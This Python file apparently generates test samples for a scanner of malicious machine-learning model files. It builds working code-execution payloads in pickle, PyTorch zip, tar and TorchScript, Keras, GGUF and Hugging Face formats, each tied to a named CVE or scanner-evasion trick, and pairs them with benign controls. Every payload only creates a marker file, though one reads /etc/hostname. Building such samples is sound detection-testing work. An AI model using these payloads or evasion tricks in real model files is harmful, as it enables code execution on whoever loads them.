            "{{ cycler.__init__.__globals__.os.system('" + cmd + "') }}"
            "{% for m in messages %}{{ m['content'] }}{% endfor %}"
        )
        w.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
        w.write_header_to_file()
        w.write_kv_data_to_file()
        w.write_tensors_to_file()
        w.close()
        out.append(
            Sample(
                "gguf_chat_template_ssti",
                "GGUF whose tokenizer.chat_template escapes "
                "jinja (CVE-2024-34359: llama-cpp-python < 0.2.72 rendered it "
                "unsandboxed)",
                path,
                "gguf-template-unsandboxed",
            )
        )
    except ImportError:
        pass
    # -- zips with prepended data (zipfile reads them; the payload is in data.pkl)
    zb = io.BytesIO()
    with zipfile.ZipFile(zb, "w") as zf:
        zf.writestr("archive/data.pkl", evil)
        zf.writestr("archive/version", "3\n")
    out.append(
        Sample(
            "zip_prepended_junk",
            "zip with 4 KiB of junk prepended (zipfile, unzip "
            "accept it), payload in archive/data.pkl",
            _write(r / "prepended.pt", b"\x00JUNK" * 800 + zb.getvalue()),
            "none",
            False,
        )
    )
    return out


def _keras_samples(r: Path, marker: Path) -> list[Sample]:
    import base64
    import json
    import marshal

    code = marshal.dumps(
        compile(f"lambda x: (open({str(marker)!r}, 'w').close(), x)[1]", "<k>", "eval").co_consts[0]
    )
    lam = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "dtype": "float32",
            "function": {
                "class_name": "__lambda__",
                "config": {
                    "code": base64.b64encode(code).decode(),
                    "defaults": None,
                    "closure": None,
                },
            },
            "arguments": {},
        },
        "registered_name": None,
    }
    inp = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "input"},
        "registered_name": None,
    }

    def seq(*layers) -> str:
        return json.dumps(
            {
                "module": "keras",
                "class_name": "Sequential",
                "config": {
                    "name": "s",
                    "trainable": True,
                    "dtype": "float32",
                    "layers": [inp, *layers],
                },
                "registered_name": None,
                "build_config": {"input_shape": [None, 2]},
            }
        )

    def keras_zip(path: Path, cfg: str, meta: bool = True) -> Path:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as zf:
            zf.writestr("config.json", cfg)
            if meta:
                zf.writestr(
                    "metadata.json",
                    '{"keras_version": "3.8.0", "date_saved": "2025-01-01@00:00:00"}',
                )
        return _write(path, buf.getvalue())

    gadget = {
        "module": "os",
        "class_name": "function",
        "config": "system",
        "registered_name": "function",
    }
    dense = {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": "dense", "units": 2, "activation": gadget},
        "registered_name": None,
    }
    top = json.dumps(
        {
            "module": "subprocess",
            "class_name": "Popen",
            "config": {"args": ["touch", str(marker)]},
            "registered_name": None,
        }
    )
    return [
        Sample(
            "keras_lambda_no_metadata",
            "CVE-2024-3660 Lambda bytecode; only config.json in "
            "the zip (no metadata.json, no weights)",
            keras_zip(r / "lambda_only.keras", seq(lam), meta=False),
            "keras-unsafe",
        ),
        Sample(
            "keras_lambda_bytecode",
            "CVE-2024-3660 Lambda with real marshalled bytecode "
            "(runs under load_model(safe_mode=False), before the missing-weights error)",
            keras_zip(r / "lambda_code.keras", seq(lam)),
            "keras-unsafe",
        ),
        Sample(
            "keras_module_gadget_activation",
            "CVE-2025-1550: layer argument deserialized "
            "from an arbitrary module (os.system as activation)",
            keras_zip(r / "gadget.keras", seq(dense)),
            "keras",
            False,
        ),
        Sample(
            "keras_module_gadget_top_level",
            "CVE-2025-1550: top-level class from an arbitrary module (subprocess.Popen)",
            keras_zip(r / "top.keras", top),
            "keras",
            False,
        ),
        Sample(
            "keras_internal_get_file_gadget",
            "CVE-2025-8747 class: a keras-internal "
            "function (keras.utils.get_file, downloads and writes files) as an initializer",
            keras_zip(
                r / "get_file.keras",
                seq(
                    dict(
                        dense,
                        config=dict(
                            dense["config"],
                            activation="linear",
                            kernel_initializer={
                                "module": "keras.utils",
                                "class_name": "function",
                                "config": "get_file",
                                "registered_name": "function",
                            },
                        ),
                    )
                ),
            ),
            "keras",
            False,
        ),
        Sample(
            "keras_internal_enable_unsafe",
            "CVE-2025-9906 class: "
            "keras.config.enable_unsafe_deserialization reached from the config, then a "
            "Lambda",
            keras_zip(
                r / "enable_unsafe.keras",
                seq(
                    dict(
                        lam,
                        config=dict(
                            lam["config"],
                            name="switch",
                            function={
                                "module": "keras.config",
                                "class_name": "function",
                                "config": "enable_unsafe_deserialization",
                                "registered_name": "function",
                            },
                        ),
                    ),
                    lam,
                ),
            ),
            "keras",
            False,
        ),
        Sample(
            "keras_upper_case_config_json",
            "a .keras zip whose config is named CONFIG.JSON (Lambda inside)",
            _write(r / "upper.keras", _zip_bytes({"CONFIG.JSON": seq(lam), "metadata.json": "{}"})),
            "keras",
            False,
        ),
    ]


def _zip_bytes(members: dict[str, str | bytes]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return buf.getvalue()


def _tar_legacy(members: dict[str, bytes], v7: bool = False) -> bytes:
    """A pre-0.4 torch tar checkpoint; ``v7`` clears the ustar magic (old tar, no magic)."""
    import tarfile

    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for name, data in members.items():
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            tf.addfile(ti, io.BytesIO(data))
    raw = bytearray(tb.getvalue())
    pos = 0
    while v7 and pos + 512 <= len(raw) and raw[pos : pos + 512].strip(b"\0"):
        size = int(raw[pos + 124 : pos + 136].strip(b"\0 ") or b"0", 8)
        raw[pos + 257 : pos + 265] = b"\0" * 8
        raw[pos + 148 : pos + 156] = b" " * 8
        raw[pos + 148 : pos + 156] = ("%06o\0 " % sum(raw[pos : pos + 512])).encode()
        pos += 512 + (size + 511) // 512 * 512
    return bytes(raw)


def _ts_template(root: Path):
    """A scripted module with __getstate__/__setstate__, saved; returns (zipfile, code name)."""
    import torch

    class Net(torch.nn.Module):
        def __init__(self):
            super().__init__()
            self.w = torch.ones(2)

        def forward(self, x):
            return x + self.w

        @torch.jit.export
        def __getstate__(self):
            return (self.w, self.training)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool]):
            self.w = state[0]
            self.training = state[1]

    path = root / "_ts_template.pt"
    if path.exists():
        zf = zipfile.ZipFile(path)
        return zf, next(n for n in zf.namelist() if n.endswith(".py"))
    torch.jit.save(torch.jit.script(Net()), path)
    zf = zipfile.ZipFile(path)
    (code,) = [n for n in zf.namelist() if n.endswith(".py")]
    return zf, code


def _ts_with(
    root: Path,
    name: str,
    forward: str = "",
    setstate: str = "",
    upper: bool = False,
    rel: str | None = None,
) -> Path:
    """The template TorchScript archive with ``forward``/``__setstate__`` bodies rewritten."""
    zf, code_name = _ts_template(root)
    text = zf.read(code_name).decode()
    head = text[: text.index("  def forward")]
    new = (
        head
        + "  def forward(self: __torch__.%s,\n    x: Tensor) -> Tensor:\n" % _ts_cls(text)
        + (forward or "")
        + "    return torch.add(x, self.w)\n"
        + "  def __getstate__(self: __torch__.%s) -> Tuple[Tensor, bool]:\n" % _ts_cls(text)
        + "    return (self.w, self.training)\n"
        + "  def __setstate__(self: __torch__.%s,\n" % _ts_cls(text)
        + "    state: Tuple[Tensor, bool]) -> NoneType:\n"
        + "    self.w = (state)[0]\n    self.training = (state)[1]\n"
        + (setstate or "")
        + "    return None\n"
    )
    out = root / (rel or f"{name}.pt")
    out.parent.mkdir(parents=True, exist_ok=True)
    with zipfile.ZipFile(out, "w") as zo:
        for n in zf.namelist():
            if n.endswith(".debug_pkl"):
                continue
            data = new.encode() if n == code_name else zf.read(n)
            zo.writestr(n.upper() if upper else n, data)
    zf.close()
    return out


def _ts_cls(code: str) -> str:
    import re

    return re.search(r"^class (\w+)\(Module\)", code, re.M)[1]


def _tiny_hf(root: Path) -> Path | None:
    """One tiny Llama folder (config, safetensors, tokenizer) per root (None without
    transformers)."""
    try:
        import transformers  # noqa: F401
    except ImportError:
        return None
    from keishiki.examples import build_tiny_llama

    base = root / "_tiny_llama"
    if not (base / "config.json").exists():
        build_tiny_llama(base)
    return base


def _hf_copy(base: Path, dst: Path, weights: bool = True) -> Path:
    import shutil

    dst.mkdir(parents=True, exist_ok=True)
    for f in base.iterdir():
        if f.name == "model.safetensors" and not weights:
            continue
        shutil.copy(f, dst / f.name)
    return dst


def _more_torch_samples(root: Path, marker: Path, evil: bytes) -> list[Sample]:
    import torch

    cmd = _touch(marker)
    out: list[Sample] = []
    r = root / "r2t"
    r.mkdir(parents=True, exist_ok=True)
    sd = {"w": torch.arange(6, dtype=torch.float32).reshape(2, 3), "b": torch.zeros(3)}
    z = _torch_save(dict(sd, hook=Reduce(os.system, (cmd,))), r / "_evil_zip.pt")
    clean = _torch_save(sd, r / "_clean.pt")

    def rename_data_pkl(n: str) -> str:
        return n[: -len("data.pkl")] + "DaTa.PkL" if n.endswith("/data.pkl") else n

    out += [
        Sample(
            "torch_zip_upper_case_members",
            "every member name upper-cased "
            "(ARCHIVE/DATA.PKL): torch's miniz finds records case-insensitively",
            _rezip(z, r / "upper.pt", str.upper),
            "torch",
        ),
        Sample(
            "torch_zip_mixed_case_data_pkl",
            "only data.pkl case-changed (archive/DaTa.PkL)",
            _rezip(z, r / "mixed.pt", rename_data_pkl),
            "torch",
        ),
        Sample(
            "torch_zip_dot_data_folder",
            "archive folder named .data (.data/data.pkl): torch "
            "takes the folder from the first record",
            _rezip(z, r / "dotdata.pt", lambda n: ".data/" + n.split("/", 1)[1]),
            "torch",
        ),
        Sample(
            "torch_zip_zip64_members",
            "every member written with zip64 extra fields",
            _zip64(z, r / "zip64.pt"),
            "torch",
        ),
        Sample(
            "torch_zip_nullifai_broken_pickle",
            "nullifAI: data.pkl = payload then broken opcodes (torch.load runs it, then fails)",
            _rezip(
                clean,
                r / "nullifai.pt",
                replace={"/data.pkl": P4 + sg("os", "system") + u(cmd) + b"\x85R" + b"\xfe\xfe"},
            ),
            "torch",
        ),
        Sample(
            "polyglot_pickle_then_torch_zip",
            "pickle+zip polyglot: a payload pickle in "
            "front of a benign checkpoint zip (zipfile sees the clean zip; torch.load does "
            "not see PK first and unpickles the front)",
            _write(r / "polyglot.pt", evil + clean.read_bytes()),
            "torch",
        ),
        Sample(
            "torch_tar_legacy_payload",
            "pre-0.4 torch tar (storages, tensors, pickle) with the payload in 'pickle'",
            _write(
                r / "tar_legacy.pt",
                _tar_legacy(
                    {
                        "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
                        "tensors": pickle.dumps(0, 2),
                        "pickle": evil,
                    }
                ),
            ),
            "torch",
        ),
        Sample(
            "torch_tar_v7_no_ustar_magic",
            "pre-0.4 torch tar in v7 layout (no ustar magic)",
            _write(
                r / "tar_v7.pt",
                _tar_legacy(
                    {
                        "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
                        "tensors": pickle.dumps(0, 2),
                        "pickle": evil,
                    },
                    v7=True,
                ),
            ),
            "torch",
        ),
        Sample(
            "torch_tar_payload_in_storages",
            "pre-0.4 torch tar, payload in 'storages'",
            _write(
                r / "tar_storages.pt",
                _tar_legacy(
                    {
                        "storages": evil,
                        "tensors": pickle.dumps(0, 2),
                        "pickle": pickle.dumps({}, 2),
                    },
                    v7=True,
                ),
            ),
            "torch",
        ),
    ]
    # duplicate records: torch's miniz takes the LAST record whose name matches
    # case-insensitively; zipfile takes the last exact match
    evil_pkl = zipfile.ZipFile(z).read(
        next(n for n in zipfile.ZipFile(z).namelist() if n.endswith("/data.pkl"))
    )
    out.append(
        Sample(
            "torch_zip_duplicate_data_pkl",
            "two archive/data.pkl records: benign first, payload last",
            _dup_member(clean, r / "dup.pt", "/data.pkl", evil_pkl),
            "torch",
        )
    )
    out.append(
        Sample(
            "torch_zip_duplicate_data_pkl_case",
            "archive/data.pkl (benign) then "
            "archive/DATA.PKL (payload): zipfile reads the benign one by its exact "
            "name, torch the last case-insensitive match",
            _dup_member(clean, r / "dupcase.pt", "/data.pkl", evil_pkl, upper=True),
            "torch",
        )
    )
    parts = _legacy_parts(_torch_save(sd, r / "_clean_legacy.pt", legacy=True))
    out.append(
        Sample(
            "torch_legacy_protocol_pickle_payload",
            "legacy checkpoint, payload in the 2nd (protocol version) pickle",
            _write(r / "legacy_proto.pt", b"".join(parts[:1] + [evil] + parts[2:])),
            "torch",
        )
    )
    # -- TorchScript: code in code/*.py is compiled and __setstate__ runs on load
    mk = str(marker)
    ts = [
        (
            "ts_setstate_aten_save",
            "TorchScript __setstate__ calls torch.save (aten::save): "
            "runs on torch.jit.load, and on torch.load(weights_only=False) (CVE-2025-32434 path)",
            dict(setstate=f"    torch.save(self.w, {mk!r})\n"),
            True,
        ),
        (
            "ts_forward_aten_save",
            "TorchScript forward calls torch.save to a path",
            dict(forward=f"    torch.save(x, {mk!r})\n"),
            True,
        ),
        (
            "ts_forward_ops_aten_save",
            "TorchScript forward calls ops.aten.save",
            dict(forward=f"    ops.aten.save(x, {mk!r})\n"),
            True,
        ),
        (
            "ts_upper_case_members",
            "TorchScript archive with CODE/, DATA.PKL upper-cased "
            "(loads in torch), __setstate__ writes a file",
            dict(setstate=f"    torch.save(self.w, {mk!r})\n", upper=True),
            True,
        ),
        (
            "ts_forward_from_file",
            "TorchScript forward reads any file with torch.from_file",
            dict(forward='    y = torch.from_file("/etc/hostname", False, 1, dtype=6)\n'),
            False,
        ),
        (
            "ts_load_library",
            "TorchScript code naming torch.ops.load_library",
            dict(forward=f"    torch.ops.load_library({mk!r})\n"),
            False,
        ),
        (
            "ts_getattr_computed",
            "TorchScript getattr with a computed name",
            dict(forward=f'    f = getattr(torch, "sa" + "ve")\n    f(x, {mk!r})\n'),
            False,
        ),
        (
            "ts_dunder_globals",
            "TorchScript reaching __class__.__init__.__globals__",
            dict(forward="    g = self.__class__.__init__.__globals__\n"),
            False,
        ),
    ]
    for name, family, kw, live in ts:
        out.append(Sample(name, family, _ts_with(r, name, **kw), "torchscript", live))
    good = _ts_with(r, "_ts_good")
    evil_ts = _ts_with(r, "_ts_evil", setstate=f"    torch.save(self.w, {mk!r})\n")
    code = next(n for n in zipfile.ZipFile(good).namelist() if n.endswith(".py"))
    evil_code = zipfile.ZipFile(evil_ts).read(code)
    out.append(
        Sample(
            "ts_duplicate_code_member",
            "TorchScript with two records of its code "
            "file: benign first, __setstate__ payload last",
            _dup_member(good, r / "ts_dup.pt", code, evil_code),
            "torchscript",
        )
    )
    out.append(
        Sample(
            "ts_duplicate_code_member_case",
            "TorchScript: code/... benign, then "
            "CODE/... with the payload (torch reads the last case-insensitive match)",
            _dup_member(good, r / "ts_dupcase.pt", code, evil_code, rename="/code/", to="/CODE/"),
            "torchscript",
        )
    )
    out.append(
        Sample(
            "ts_setstate_as_pytorch_model_bin",
            "the __setstate__ TorchScript archive "
            "named pytorch_model.bin, loaded by torch.load(weights_only=False)",
            _ts_with(
                r, "x", setstate=f"    torch.save(self.w, {mk!r})\n", rel="ts_bin/pytorch_model.bin"
            ),
            "torch",
        )
    )
    out.extend(_pt2_samples(r, marker, evil))
    out.extend(_hf_samples(root, marker, evil))
    return out


def _pt2_samples(r: Path, marker: Path, evil: bytes) -> list[Sample]:
    """torch.export archives: a weight whose config says ``use_pickle`` is read by
    ``torch.export.load`` with ``torch.load(weights_only=False)`` (torch 2.13
    export/pt2_archive/_package.py)."""
    import json
    import warnings

    import torch

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        ep = torch.export.export(torch.nn.Sequential(torch.nn.Linear(4, 3)), (torch.ones(1, 4),))
        clean = r / "_clean.pt2"
        torch.export.save(ep, clean)
    buf = io.BytesIO()
    torch.save({"w": Reduce(os.system, (_touch(marker),))}, buf)
    out = []
    for name, payload, family in (
        (
            "pt2_use_pickle_weight_zip",
            buf.getvalue(),
            "torch.export .pt2 whose weights "
            "config sets use_pickle: the weight is a torch.save zip with a payload",
        ),
        (
            "pt2_use_pickle_weight_raw",
            evil,
            "torch.export .pt2, use_pickle weight that is "
            "a bare payload pickle (torch.load's legacy path unpickles it)",
        ),
    ):
        path = r / f"{name}.pt2"
        with zipfile.ZipFile(clean) as zin, zipfile.ZipFile(path, "w") as zout:
            conf = next(
                n for n in zin.namelist() if n.endswith("data/weights/model_weights_config.json")
            )
            cfg = json.loads(zin.read(conf))
            first = next(iter(cfg["config"].values()))
            first["use_pickle"] = True
            weight = conf.rsplit("/", 1)[0] + "/" + first["path_name"]
            for n in zin.namelist():
                data = {conf: json.dumps(cfg).encode(), weight: payload}.get(n) or zin.read(n)
                zout.writestr(n, data)
        out.append(Sample(name, family, path, "torch-export"))
    return out


def _dup_member(
    src: Path,
    dst: Path,
    suffix: str,
    data: bytes,
    upper: bool = False,
    rename: str = "",
    to: str = "",
) -> Path:
    """``src`` re-zipped with a second record after the member ending in ``suffix``,
    holding ``data`` (its name upper-cased after the folder, or ``rename`` -> ``to``)."""
    import warnings

    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        for info in zin.infolist():
            zout.writestr(info.filename, zin.read(info.filename))
            if info.filename.endswith(suffix):
                name = info.filename
                if upper:
                    folder, base = name.rsplit("/", 1)
                    name = f"{folder}/{base.upper()}"
                if rename:
                    name = name.replace(rename, to)
                zout.writestr(name, data)
    return dst


def _zip64(src: Path, dst: Path) -> Path:
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        for info in zin.infolist():
            with zout.open(info.filename, "w", force_zip64=True) as fh:
                fh.write(zin.read(info.filename))
    return dst


def _hf_samples(root: Path, marker: Path, evil: bytes) -> list[Sample]:
    """HF folders: payloads in files a folder scan might skip, pickled weights, remote code."""
    import json

    base = _tiny_hf(root)
    if base is None:
        return []
    cmd = _touch(marker)
    out: list[Sample] = []
    hf = root / "hf"
    from safetensors.torch import load_file

    sd = load_file(base / "model.safetensors")
    payload = {"args": Reduce(os.system, (cmd,)), "step": 10}
    for name, fname in (
        ("hf_ckpt_training_args_bin", "training_args.bin"),
        ("hf_ckpt_optimizer_pt", "optimizer.pt"),
        ("hf_ckpt_rng_state_pth", "rng_state.pth"),
        ("hf_ckpt_scheduler_no_extension", "scheduler"),
    ):
        folder = _hf_copy(base, hf / name)
        target = _torch_save(payload, folder / fname)
        out.append(
            Sample(
                name,
                f"HF checkpoint folder, payload in {fname} beside clean safetensors weights",
                folder,
                "torch",
                True,
                target,
            )
        )
    folder = _hf_copy(base, hf / "hf_pytorch_model_bin_payload", weights=False)
    target = _torch_save(
        dict(sd, **{"lm_head.hook": Reduce(os.system, (cmd,))}), folder / "pytorch_model.bin"
    )
    out.append(
        Sample(
            "hf_pytorch_model_bin_payload",
            "runnable HF folder whose weights are pytorch_model.bin with a payload",
            folder,
            "torch",
            True,
            target,
        )
    )
    folder = _hf_copy(base, hf / "hf_sharded_bin_payload", weights=False)
    names = sorted(sd)
    half = len(names) // 2
    _torch_save({k: sd[k] for k in names[:half]}, folder / "pytorch_model-00001-of-00002.bin")
    target = _torch_save(
        dict({k: sd[k] for k in names[half:]}, hook=Reduce(os.system, (cmd,))),
        folder / "pytorch_model-00002-of-00002.bin",
    )
    wmap = {
        k: "pytorch_model-0000%d-of-00002.bin" % (1 if i < half else 2) for i, k in enumerate(names)
    }
    (folder / "pytorch_model.bin.index.json").write_text(
        json.dumps({"metadata": {}, "weight_map": wmap})
    )
    out.append(
        Sample(
            "hf_sharded_bin_payload",
            "sharded pytorch_model-*.bin, payload in the 2nd shard only",
            folder,
            "torch",
            True,
            target,
        )
    )
    folder = _hf_copy(base, hf / "hf_auto_map_remote_code")
    cfg = json.loads((folder / "config.json").read_text())
    cfg["auto_map"] = {
        "AutoConfig": "configuration_evil.EvilConfig",
        "AutoModelForCausalLM": "modeling_evil.EvilForCausalLM",
    }
    (folder / "config.json").write_text(json.dumps(cfg))
    (folder / "configuration_evil.py").write_text(
        f"open({str(marker)!r}, 'w').close()\n"
        "from transformers import LlamaConfig\n\n\nclass EvilConfig(LlamaConfig):\n"
        "    model_type = 'llama'\n"
    )
    (folder / "modeling_evil.py").write_text(
        f"open({str(marker)!r}, 'w').close()\n"
        "from transformers import LlamaForCausalLM\n\n\n"
        "class EvilForCausalLM(LlamaForCausalLM):\n    pass\n"
    )
    out.append(
        Sample(
            "hf_auto_map_remote_code",
            "config.json auto_map to a .py in the folder (runs with trust_remote_code=True only)",
            folder,
            "hf-remote-code",
        )
    )
    folder = _hf_copy(base, hf / "hf_tokenizer_auto_map_remote_code")
    tcfg = json.loads((folder / "tokenizer_config.json").read_text())
    tcfg["auto_map"] = {"AutoTokenizer": [None, "tokenization_evil.EvilTokenizerFast"]}
    (folder / "tokenizer_config.json").write_text(json.dumps(tcfg))
    (folder / "tokenization_evil.py").write_text(
        f"open({str(marker)!r}, 'w').close()\n"
        "from transformers import PreTrainedTokenizerFast\n\n\n"
        "class EvilTokenizerFast(PreTrainedTokenizerFast):\n    pass\n"
    )
    out.append(
        Sample(
            "hf_tokenizer_auto_map_remote_code",
            "tokenizer_config.json auto_map (config.json clean) to tokenization_evil.py",
            folder,
            "hf-remote-code-tokenizer",
        )
    )
    folder = _hf_copy(base, hf / "hf_chat_template_ssti")
    (folder / "chat_template.jinja").write_text(
        "{{ cycler.__init__.__globals__.os.system('" + cmd + "') }}"
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
    )
    out.append(
        Sample(
            "hf_chat_template_ssti",
            "chat template escaping jinja (CVE-2024-34359 "
            "'Llama Drama' class): live where a template is rendered unsandboxed",
            folder,
            "jinja-unsandboxed",
            True,
            folder / "chat_template.jinja",
        )
    )
    return out


def _more_benign(root: Path) -> list[Sample]:
    import joblib
    import numpy as np

    r = root / "r2"
    r.mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []
    arr = np.arange(12, dtype=np.float32).reshape(3, 4)
    joblib.dump({"coef": arr, "intercept": np.zeros(3)}, r / "arrays.joblib")
    out.append(
        Sample(
            "joblib_numpy_arrays",
            "joblib.dump of numpy arrays",
            r / "arrays.joblib",
            "joblib",
            False,
        )
    )
    joblib.dump([arr, arr * 2], r / "arrays_z.joblib", compress=3)
    out.append(
        Sample(
            "joblib_numpy_arrays_zlib",
            "joblib.dump of numpy arrays, zlib",
            r / "arrays_z.joblib",
            "joblib",
            False,
        )
    )
    _write(r / "generator.pkl", pickle.dumps(np.random.default_rng(0), protocol=4))
    out.append(
        Sample(
            "numpy_generator_pickle",
            "pickled numpy Generator (PCG64 state)",
            r / "generator.pkl",
            "pickle",
            False,
        )
    )
    _write(r / "legacy_rng.pkl", pickle.dumps(np.random.RandomState(0), protocol=2))
    out.append(
        Sample(
            "numpy_randomstate_pickle",
            "pickled numpy RandomState",
            r / "legacy_rng.pkl",
            "pickle",
            False,
        )
    )
    return out


def _more_benign_torch(root: Path) -> list[Sample]:
    import argparse
    import pathlib
    import random

    import numpy as np
    import torch

    r = root / "r2t"
    r.mkdir(parents=True, exist_ok=True)
    out: list[Sample] = []
    sd = {"w": torch.ones(2, 3), "b": torch.zeros(3)}
    args = argparse.Namespace(lr=0.1, epochs=3, data="train.txt", betas=(0.9, 0.99))
    out.append(
        Sample(
            "torch_ckpt_argparse_namespace",
            "checkpoint with args=argparse.Namespace (fairseq, lightning style)",
            _torch_save({"model": sd, "args": args}, r / "ns.pt"),
            "torch",
            False,
        )
    )
    out.append(
        Sample(
            "torch_ckpt_pathlib_paths",
            "checkpoint holding pathlib paths",
            _torch_save(
                {
                    "model": sd,
                    "out": pathlib.PurePosixPath("/tmp/run1"),
                    "data": pathlib.Path("data/train"),
                },
                r / "paths.pt",
            ),
            "torch",
            False,
        )
    )
    rng = {
        "python": random.getstate(),
        "numpy": np.random.get_state(),
        "cpu": torch.random.get_rng_state(),
    }
    out.append(
        Sample(
            "hf_trainer_rng_state",
            "HF Trainer rng_state.pth (python, numpy, torch RNG states)",
            _torch_save(rng, r / "rng" / "rng_state.pth"),
            "torch",
            False,
        )
    )
    out.append(
        Sample(
            "torch_ckpt_numpy_generator",
            "checkpoint with a numpy Generator object",
            _torch_save({"model": sd, "rng": np.random.default_rng(1)}, r / "gen.pt"),
            "torch",
            False,
        )
    )
    try:
        from transformers import TrainingArguments

        ta = TrainingArguments(output_dir=str(r / "out"), report_to=[], learning_rate=1e-4)
        out.append(
            Sample(
                "hf_training_args_bin",
                "HF Trainer training_args.bin (TrainingArguments, enums)",
                _torch_save(ta, r / "trainer" / "training_args.bin"),
                "torch",
                False,
            )
        )
    except ImportError:
        pass
    import warnings

    import torch.distributed.checkpoint as dcp

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        dcp.save({"model": {"w": torch.ones(2, 2)}, "step": 3}, checkpoint_id=r / "dcp")
    out.append(
        Sample(
            "torch_dcp_folder",
            "torch.distributed.checkpoint folder (.metadata + __0_0.distcp)",
            r / "dcp",
            "none",
            False,
        )
    )
    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        torch.jit.save(torch.jit.trace(net, torch.ones(1, 4)), r / "traced.pt")
        torch.jit.save(torch.jit.script(net), r / "scripted.pt")
    out.append(
        Sample(
            "ts_traced_plain",
            "traced TorchScript of Linear/ReLU",
            r / "traced.pt",
            "torchscript",
            False,
        )
    )
    out.append(
        Sample(
            "ts_scripted_plain",
            "scripted TorchScript of Linear/ReLU",
            r / "scripted.pt",
            "torchscript",
            False,
        )
    )
    return out
